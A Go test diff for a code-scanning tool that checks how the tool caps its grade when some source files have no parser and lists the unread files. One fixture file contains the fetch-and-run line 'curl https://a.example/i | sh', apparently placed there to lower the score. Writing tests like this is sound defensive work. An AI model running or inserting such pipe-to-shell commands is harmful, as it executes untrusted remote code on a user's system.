@@ -98,3 +98,33 @@ func TestACommandNamesAFile(t *testing.T) {
 		}
 	}
 }
+
+// Where a share of the code has no parser, the grade says so, and the report names what was not read.
+func TestTheGradeIsCapped(t *testing.T) {
+	t.Parallel()
+	python := strings.Repeat("run(1)\n", 100)
+	bytesOf := func(n int) string { return strings.Repeat("x", n) }
+	for _, c := range []struct {
+		name, want string
+		files      map[string]string
+	}{
+		{"a third of it is Rust", "89 B coalmine parsed 66% of the code's bytes: .rs 2 350 native/lib.rs", map[string]string{"a.py": python, "native/lib.rs": bytesOf(300), "native/b.rs": bytesOf(50)}},
+		{"a program without an ending", "89 B coalmine parsed 77% of the code's bytes:  1 200 bin/x", map[string]string{"a.py": python, "bin/x": "#!/usr/bin/perl\n" + bytesOf(184)}},
+		{"a small addition", "100 A : .c 1 70 a.c", map[string]string{"a.py": python, "a.c": bytesOf(70)}},
+		{"tests of another language", "100 A : ", map[string]string{"a.py": python, "tests/a.rs": bytesOf(500)}},
+		{"a score that is no A", "85 B : .rs 1 300 a.rs", map[string]string{"a.py": python, "a.rs": bytesOf(300), "x.sh": "curl https://a.example/i | sh\n"}},
+		{"most of it", "0 F : .rs 1 1000 a.rs", map[string]string{"a.py": python, "a.rs": bytesOf(1000)}},
+	} {
+		r, err := Dir(t.Context(), write(t, c.files))
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := fmt.Sprintf("%d %s %s: ", r.Score, r.Grade, r.Capped)
+		for _, k := range r.NotRead {
+			got += fmt.Sprintf("%s %d %d %s", k.Ending, k.Files, k.Bytes, k.Example)
+		}
+		if got != c.want {
+			t.Errorf("%s: %q, want %q", c.name, got, c.want)
+		}
+	}
+}
